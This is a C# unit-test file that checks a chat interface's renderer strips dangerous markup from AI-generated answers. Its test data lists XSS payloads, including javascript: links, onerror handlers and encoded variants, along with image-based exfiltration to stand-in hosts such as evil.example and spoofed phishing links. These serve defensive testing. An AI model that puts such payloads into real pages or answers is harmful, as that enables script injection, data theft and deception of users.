using Platform.Agents.Answering;
using Platform.Web.Features.Chat.Rendering;

namespace Platform.Web.Tests.Chat;

/// <summary>Fault 36: what an answer may not do to the page that shows it.</summary>
public sealed class AnswerMarkupTests
{
    private static readonly MarkupLabels Labels = new("Copy", "Source {0}");
    private static readonly Dictionary<int, Verdict> NoMarks = [];

    [Theory]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<svg onload=alert(1)><script>alert(1)</script></svg>")]
    [InlineData("<iframe src=\"javascript:alert(1)\"></iframe>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<div style=\"background:url(http://evil/?q=1)\">x</div>")]
    [InlineData("<math><mi xlink:href=\"data:text/html,<script>alert(1)</script>\">x</mi></math>")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](java&#x09;script:alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](vbscript:msgbox)")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)")]
    [InlineData("[x](file:///etc/passwd)")]
    [InlineData("[x](/account/sign-out)")]
    [InlineData("[x](//evil.example/x)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("![x](data:image/svg+xml,<svg onload=alert(1)>)")]
    [InlineData("![x](http://evil.example/?q=secret)")]
    [InlineData("![x][y]\n\n[y]: http://evil.example/?q=secret")]
    [InlineData("```\n<img src=x onerror=alert(1)>\n```")]
    [InlineData("`<script>alert(1)</script>`")]
    [InlineData("``` \"onmouseover=alert(1)\n<script>\n```")]
    [InlineData("[x](http://ok.example/ \"onmouseover=alert(1)\")")]
    [InlineData("[x](http://ok.example/\"onclick=\"alert(1))")]
    [InlineData("| a |\n|---|\n| <img src=x onerror=alert(1)> |")]
    [InlineData("<style>@import 'http://evil.example'</style>")]
    [InlineData("<form action=http://evil.example><input name=p></form>")]
    [InlineData("<button data-testid=citation data-n=1>1</button>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=http://evil.example\">")]
    public void Untrusted_markdown_runs_nothing_and_loads_nothing_fault_36(string attack)
    {
        var html = AnswerMarkup.ToHtml(attack, NoMarks, Labels);

        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument($"<body>{html}</body>");
        Assert.Empty(document.QuerySelectorAll("script, img, svg, math, iframe, style, form, input, meta, object, embed, link, video, audio, [data-testid=citation], [style]"));
        Assert.All(document.All.SelectMany(e => e.Attributes), a => Assert.False(a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), a.Name));
        Assert.All(document.QuerySelectorAll("[href]"), e => Assert.Matches("^(https?|mailto):", e.GetAttribute("href")!));
        Assert.Empty(document.QuerySelectorAll("[src]"));
    }

    [Fact]
    public void A_remote_image_becomes_a_link_that_needs_a_click()
    {
        var html = AnswerMarkup.ToHtml("![chart](https://example.org/c.png)", NoMarks, Labels);

        Assert.Equal("<p><a href=\"https://example.org/c.png\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">chart (example.org)</a></p>", html.Trim());
    }

    [Theory]
    [InlineData("[handbook.pdf](http://evil.example/?d=1)", "handbook.pdf (evil.example)")]
    [InlineData("[https://netflix.com/login](https://x.com/a)", "https://netflix.com/login (x.com)")]
    [InlineData("[bank.com.evil.org](https://bank.com)", "bank.com.evil.org (bank.com)")]
    [InlineData("[bank.com](https://bank.com.evil.org)", "bank.com (bank.com.evil.org)")]
    [InlineData("[apple.com](https://аpple.com)", "apple.com (xn--pple-43d.com)")]
    [InlineData("[&#x202E;moc.knab](https://evil.org)", "moc.knab (evil.org)")]
    [InlineData("[https://bank.com/evil.org](https://evil.org/x)", "https://bank.com/evil.org (evil.org)")]
    [InlineData("[https://bank.com@evil.org](https://bank.com@evil.org)", "https://bank.com@evil.org (evil.org)")]
    [InlineData("![&#x202E;gro.knab](https://evil.org/a.png)", "gro.knab (evil.org)")]
    [InlineData("[at example.org, today](https://example.org)", "at example.org, today")]
    [InlineData("<https://example.org/a>", "https://example.org/a")]
    [InlineData("[see Example.org](https://example.org/a)", "see Example.org")]
    [InlineData("<a@example.org>", "a@example.org")]
    public void A_link_says_where_it_leads(string markdown, string words) =>
        Assert.Equal(words, new AngleSharp.Html.Parser.HtmlParser().ParseDocument($"<body>{AnswerMarkup.ToHtml(markdown, NoMarks, Labels)}</body>").QuerySelector("a")!.TextContent);

    [Fact]
    public void Nothing_turns_the_rest_of_a_paragraph() =>
        Assert.Equal("<p>paid to anna</p>", AnswerMarkup.ToHtml("paid \u202Eto \u2067anna", NoMarks, Labels).Trim());

    [Fact]
    public void A_mark_of_a_known_citation_becomes_a_button_with_its_verdict()
    {
        var html = AnswerMarkup.ToHtml("Twenty-five days [2].", new Dictionary<int, Verdict> { [2] = Verdict.Partly }, Labels);

        Assert.Contains("<button type=\"button\" class=\"cite cite-partly\" data-testid=\"citation\" data-n=\"2\" aria-label=\"Source 2\">2</button>.", html, StringComparison.Ordinal);
    }

    [Fact]
    public void A_mark_without_a_citation_stays_text() =>
        Assert.Equal("<p>See [3] and [x].</p>", AnswerMarkup.ToHtml("See [3] and [x].", new Dictionary<int, Verdict> { [1] = Verdict.Supported }, Labels).Trim());

    [Theory]
    [InlineData("Days [1](http://evil.example).")]
    [InlineData("Days [1].\n\n[1]: http://evil.example")]
    public void Quoted_text_cannot_turn_a_mark_into_a_link_fault_36(string markdown)
    {
        var html = AnswerMarkup.ToHtml(markdown, new Dictionary<int, Verdict> { [1] = Verdict.Supported }, Labels);

        Assert.Contains("data-n=\"1\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("href=\"http://evil.example/\">1", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Characters_that_stand_for_marks_inside_are_not_taken_from_outside() =>
        Assert.DoesNotContain("citation", AnswerMarkup.ToHtml("\uE0001\uE001", new Dictionary<int, Verdict> { [1] = Verdict.Supported }, Labels), StringComparison.Ordinal);

    [Fact]
    public void A_mark_inside_code_stays_text() =>
        Assert.Contains("<code>a[1]</code>", AnswerMarkup.ToHtml("`a[1]`", new Dictionary<int, Verdict> { [1] = Verdict.Supported }, Labels), StringComparison.Ordinal);

    [Fact]
    public void Markdown_nested_beyond_reason_is_shown_as_text() =>
        Assert.Contains("&gt;&gt;&gt;", AnswerMarkup.ToHtml(new string('>', 5000) + "<b>x", NoMarks, Labels), StringComparison.Ordinal);

    [Fact]
    public void Tables_lists_code_and_chinese_come_through()
    {
        var html = AnswerMarkup.ToHtml("| 项目 | 天数 |\n|---|---|\n| 年假 | 25 |\n\n- 一\n- 二\n\n```csharp\nvar x = 1 < 2;\n```", NoMarks, Labels);

        Assert.Contains("<div class=\"table-scroll\"><table>", html, StringComparison.Ordinal);
        Assert.Contains("<td>年假</td>", html, StringComparison.Ordinal);
        Assert.Contains("<li>二</li>", html, StringComparison.Ordinal);
        Assert.Contains("1 &lt; 2", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Copied_text_carries_no_marks() => Assert.Equal("Twenty-five days. And more.", AnswerMarkup.WithoutMarks("Twenty-five days [1]. And more [2].", [1, 2]));

    [Theory]
    [InlineData("See note [3].")]
    [InlineData("Take `x = a[1]` first.")]
    [InlineData("```c\nx = a[1];\n```")]
    [InlineData("Words.\n\n    x = a[1];\n")]
    [InlineData("| a | b |\n|---|---|\n| `a[1]` | c |")]
    public void Copied_text_keeps_what_is_code_or_no_citation(string text) => Assert.Equal(text, AnswerMarkup.WithoutMarks(text, [1]));

    [Fact]
    public void Copied_text_that_nests_beyond_reason_is_copied_all_the_same() =>
        Assert.EndsWith("end", AnswerMarkup.WithoutMarks(new string('>', 5000) + "the end [1]", [1]), StringComparison.Ordinal);
}
